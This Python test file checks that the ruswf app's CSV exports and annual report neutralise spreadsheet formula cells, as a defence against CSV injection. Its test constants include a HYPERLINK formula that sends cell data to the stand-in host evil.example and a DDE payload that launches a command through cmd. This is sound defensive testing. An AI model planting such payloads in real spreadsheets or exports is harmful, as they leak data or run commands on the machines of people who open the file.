"""Finding 9: no CSV that ruswf writes starts a cell with a formula character."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

from projections import render_annual
from ruswf.app.audit.export import export, selection
from ruswf.app.audit.ledger import Ledger
from ruswf.app.csvsafe import FORMULA_STARTS
from ruswf.app.service import RusApp

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
FORMULA_DECISION = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(text: str) -> None:
    starting = [c for c in cells(text) if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert starting == [], starting


def test_export_csv_files_neutralise_formula_cells(
    approve_via_api: Callable[..., str],
    app: RusApp,
    content: dict[str, Any],
    tmp_path: Path,
) -> None:
    approve_via_api({**content, "title": FORMULA_TITLE}, FORMULA_DECISION)
    export(app, selection(app), tmp_path / "export", ledger=Ledger(app))
    decisions = (tmp_path / "export" / "decisions.csv").read_text(encoding="utf-8")
    trail = (tmp_path / "export" / "audit_trail.csv").read_text(encoding="utf-8")
    for text in (decisions, trail):
        assert_no_formula(text)
    assert "'" + FORMULA_TITLE in cells(decisions)
    assert "'" + FORMULA_DECISION in cells(decisions)


def test_annual_report_csv_neutralises_formula_cells() -> None:
    """Goal area and period ids come from the strategy file, which an admin edits."""
    report = {
        "year": 2026,
        "rows": [{"goal_area": "=1+1", "period": "-2026-T1", "proposals": -1}],
    }
    text = render_annual(report, "csv")
    assert_no_formula(text)
    assert "'=1+1" in cells(text)
    assert "'-2026-T1" in cells(text)
    assert "-1" in cells(text)  # a negative number stays a number
